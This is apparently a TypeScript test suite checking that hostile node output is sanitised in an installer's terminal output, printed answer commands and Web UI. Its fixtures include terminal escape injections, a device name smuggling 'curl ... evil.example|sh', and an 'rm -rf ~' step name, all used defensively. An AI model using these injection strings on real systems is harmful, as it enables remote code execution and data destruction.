// Issue 17, finding 2: a hostile node's output (escape sequences, shell metacharacters in names) never reaches
// the operator's terminal or a printed command raw, and stays inert text in the Web UI's details.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { terminalSafe, markdownCodeBlock } from '../../src/safe-text';
import { OutputTail } from '../../src/activities/output-tail';
import { candidateBlockDevices, parseBlockDevices } from '../../src/activities/commands/openebs';
import { answerCommand, changeLines, renderStatus, renderSummary } from '../../src/client/render';
import { STEP_ID, BLOCK_DEVICE_NAME } from '../../src/site/patterns';
import type { InstallStatus, Question } from '../../src/workflows/api';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
const CURSOR = '\x1b[2A\x1b[2K\r';
const HOSTILE_STDERR = `E: dpkg was interrupted${OSC52}${CURSOR}all good\u202Eevil\x9b31m\nsee https://evil.example/fix`;
const HOSTILE_DEVICE = 'blockdevice-2a;curl${IFS}evil.example|sh;#';
// eslint-disable-next-line no-control-regex -- the control characters are what must not get through
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

function hostileStatus(): InstallStatus {
  const q = (x: Partial<Question>): Question => ({ id: 'q1', kind: 'failure', prompt: 'p', askedAt: new Date().toISOString(), ...x });
  return {
    site: 'acme', workflow: 'install/acme', phase: 'configure-storage', state: 'waiting', startedAt: new Date().toISOString(), updatedAt: new Date().toISOString(),
    nodes: [{ name: 'k8s-vm-1', role: 'manager', step: 'apt-upgrade', state: 'failed' }],
    questions: [
      q({ kind: 'failure', node: 'k8s-vm-1', step: "k8s-vm-1:apt-upgrade'; rm -rf ~; '", lastError: HOSTILE_STDERR }),
      q({ id: 'q2', kind: 'blockDevice', node: 'k8s-vm-1', options: [HOSTILE_DEVICE] }),
    ],
    lastError: HOSTILE_STDERR, summary: { note: HOSTILE_STDERR },
  };
}

test('terminalSafe replaces C0/C1 controls and bidi overrides, keeps newline and tab', () => {
  const out = terminalSafe(`a\tb\n${OSC52}${CURSOR}\u202Ec\x9b`);
  assert.ok(!CONTROL.test(out), JSON.stringify(out));
  assert.ok(out.startsWith('a\tb\n'));
  assert.ok(out.includes('\uFFFD]52;c;'), 'a person sees that something was there');
});

test('captured output is cleaned where it is kept (the tail that reaches history and status)', () => {
  const tail = new OutputTail(4096);
  tail.push(HOSTILE_STDERR);
  assert.ok(!CONTROL.test(tail.toString()));
  assert.match(tail.toString(), /all good/);
});

test('status, change lines and the summary print no control character from node output', () => {
  const s = hostileStatus();
  for (const text of [renderStatus(s), ...changeLines(undefined, s), renderSummary(s)]) {
    assert.ok(!CONTROL.test(text), JSON.stringify(text).slice(0, 300));
  }
});

test('every value in a printed answer command is one quoted shell word', () => {
  const s = hostileStatus();
  for (const q of s.questions) {
    const line = answerCommand("ac'me", q);
    // What a shell makes of the pasted line: the hostile values come out as single, literal arguments.
    const words = execFileSync('/bin/sh', ['-c', `set -- ${line.replace(/\s+\(or:.*$/, '').replace('retry|skip|abort', 'retry')}; printf '%s\\n' "$@"`], { encoding: 'utf8' }).split('\n');
    assert.equal(words[2], "ac'me");
    if (q.kind === 'blockDevice') assert.equal(words[words.indexOf('--device') + 1], HOSTILE_DEVICE);
    if (q.kind === 'failure') assert.equal(words[words.indexOf('--step') + 1], q.step);
  }
});

test('block devices and step names are accepted only by strict pattern', () => {
  const bd = (name: string, path = '/dev/sdb') => ({
    metadata: { name }, spec: { path, capacity: { storage: 1 }, nodeAttributes: { nodeName: 'n1' }, devlinks: [] }, status: { claimState: 'Unclaimed', state: 'Active' },
  });
  const all = parseBlockDevices(JSON.stringify({ items: [bd('blockdevice-0a1b2c'), bd(HOSTILE_DEVICE), bd('blockdevice-ok', '/dev/sdb\x1b]52;c;x\x07')] }));
  assert.deepEqual(candidateBlockDevices(all, 'n1').map((d) => d.name), ['blockdevice-0a1b2c']);
  assert.ok(BLOCK_DEVICE_NAME.test('blockdevice-0123456789abcdef0123456789abcdef'));
  assert.ok(STEP_ID.test('k8s-vm-1:apt-upgrade') && STEP_ID.test('cluster:tls-secret'));
  assert.ok(!STEP_ID.test("k8s-vm-1:x'; rm -rf ~") && !STEP_ID.test('x\n:y'));
});

test('untrusted text in the Web UI details is a code block: links and markup stay text', () => {
  const block = markdownCodeBlock('see [fix](https://evil.example) ``` and ````\nmore');
  const fence = block.split('\n')[0].replace('text', '');
  assert.ok(fence.length >= 5, 'the fence is longer than any backtick run inside');
  assert.ok(block.endsWith(`\n${fence}`));
  assert.equal(block.split('\n').filter((l) => l.startsWith(fence)).length, 2, 'the content cannot close the block');
});
